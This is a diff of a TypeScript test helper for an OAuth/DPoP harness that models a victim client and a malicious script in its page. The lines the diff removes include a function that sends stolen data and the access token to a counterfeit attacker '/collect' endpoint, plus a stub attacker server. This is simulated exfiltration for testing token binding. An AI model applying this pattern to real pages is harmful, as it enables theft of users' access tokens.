@@ -3,9 +3,7 @@ import { type Dpop, type DpopKeys, dpop } from '../../../../oauth/index.ts';
 import type { Machine } from '../../../machine/machine.ts';
 import { keysInMemory } from '../../../machine/run/proof-keys.ts';
 import type { Run } from '../../../machine/run/run.ts';
-import { COUNTERFEIT, serverOf } from '../../../machine/run/server-of.ts';
-import { formMessage } from '../../../machine/run/token-request.ts';
-import type { Middleware } from '../../../machine/wire/recorder.ts';
+import { attackersServer } from '../../../machine/run/script-in-page.ts';
 
 /** A client with tokens that are bound to a key, and what a script in its page can reach. */
 export interface Victim {
@@ -15,10 +13,6 @@ export interface Victim {
   /** What the page signs with. */
   binding: Dpop;
 }
-
-/** Takes what a script brings. */
-const attackersServer: Middleware = (next) => async (url, init) =>
-  serverOf(url) === 'attacker' ? new Response(null, { status: 204 }) : next(url, init);
 
 /** Signs in for bearer tokens. */
 export async function signInForBearer(machine: Machine): Promise<Run> {
@@ -42,10 +36,4 @@ export async function signInForBound(
   });
   await run.signIn();
   return { run, keys, binding };
-}
-
-/** A script in the page sends the attacker what it has taken, and the access token. */
-export async function bring({ run }: Victim, taken: string): Promise<void> {
-  const token = run.memory.getSnapshot() ?? '';
-  await run.send(formMessage(`${run.origin}${COUNTERFEIT}/collect`, { taken, token }));
 }
